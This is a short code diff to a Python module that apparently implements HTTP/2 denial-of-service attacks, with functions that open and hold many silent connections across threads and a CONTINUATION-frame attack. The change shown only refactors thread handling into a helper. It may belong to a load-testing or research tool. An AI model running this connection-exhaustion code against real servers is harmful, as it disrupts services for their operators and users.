@@ -9,13 +9,12 @@ import select
 import socket
 import ssl
 import struct
-import threading
 import time
 from collections import deque
 from collections.abc import Callable
 from contextlib import suppress
 
-from attacks import Attack
+from attacks import Attack, on_threads
 from frames import (
     CONTINUATION,
     DATA,
@@ -72,9 +71,9 @@ def half_handshakes(attack: Attack, until: float) -> int:
 def _hold(attack: Attack, until: float, first: bytes) -> int:
     """Opens connections on several threads, sends the same on each, and falls silent."""
     host, port = attack.address.rsplit(":", 1)
-    counts = [0] * THREADS
 
-    def connect(number: int) -> None:
+    def connect() -> int:
+        count = 0
         held: deque[socket.socket] = deque()
         while time.monotonic() < until:
             with suppress(OSError):
@@ -82,18 +81,14 @@ def _hold(attack: Attack, until: float, first: bytes) -> int:
                 one.setblocking(False)
                 held.append(one)
                 one.send(first)
-                counts[number] += 1
+                count += 1
             if len(held) > STRANGERS // THREADS:
                 held.popleft().close()
         for one in held:
             one.close()
+        return count
 
-    threads = [threading.Thread(target=connect, args=(number,)) for number in range(THREADS)]
-    for thread in threads:
-        thread.start()
-    for thread in threads:
-        thread.join()
-    return sum(counts)
+    return on_threads(*[connect] * THREADS)
 
 
 def continuations(attack: Attack, until: float) -> int:
